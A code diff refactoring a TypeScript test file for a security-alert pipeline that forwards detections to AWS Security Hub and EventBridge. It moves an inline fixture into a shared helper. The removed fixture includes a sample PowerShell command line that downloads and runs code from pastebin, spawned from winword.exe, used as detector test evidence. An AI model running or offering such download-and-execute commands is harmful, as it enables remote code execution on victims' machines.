@@ -1,7 +1,7 @@
 import { EventBridgeClient } from '@aws-sdk/client-eventbridge';
 import { SecurityHubClient } from '@aws-sdk/client-securityhub';
 import { afterAll, beforeAll, beforeEach, describe, expect, it } from 'vitest';
-import type { AlertGroup, DetectionFinding } from '../../lib/alert/index.ts';
+import type { DetectionFinding } from '../../lib/alert/index.ts';
 import {
   handlerEnv,
   LOCAL_CREDENTIALS,
@@ -34,6 +34,7 @@ import {
   toAsff,
 } from '../../lib/pipeline/sinks/index.ts';
 import { defaultRule } from '../../lib/rule/index.ts';
+import { sampleGroup } from '../helpers/alerts.ts';
 import {
   type ProtocolRequest,
   type ProtocolServer,
@@ -47,24 +48,7 @@ const ACCOUNT = '123456789012';
 const PRODUCT_ARN = `arn:aws:securityhub:${LOCAL_REGION}:${ACCOUNT}:product/${ACCOUNT}/default`;
 const BUS = 'soc-findings';
 
-function group(domain = 'pastebin.com', count = 3): AlertGroup {
-  return {
-    key: { host: 'WKS-7', user: 'CORP\\jdoe', process: 'powershell.exe', domain },
-    count,
-    firstSeen: Date.parse('2024-03-05T09:14:22.418Z'),
-    lastSeen: Date.parse('2024-03-05T09:29:22.519Z'),
-    evidence: {
-      commandLines: ['powershell.exe -nop -c "iex (iwr https://pastebin.com/raw/x1)"'],
-      parents: ['winword.exe'],
-      processPaths: ['C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe'],
-      dstIps: ['104.20.67.143'],
-      dstPorts: [443],
-      kinds: ['dns', 'network'],
-      sources: ['sysmon'],
-      provenance: [{ origin: 's3://logs/sysmon/batch.xml.gz', record: 17 }],
-    },
-  };
-}
+const group = (domain = 'pastebin.com', count = 3) => sampleGroup({ domain }, count);
 
 const alert = (domain = 'pastebin.com', activity: 'create' | 'update' = 'create', count = 3) =>
   buildAlertMessage(rule, group(domain, count), { activity, source: 'sysmon' });
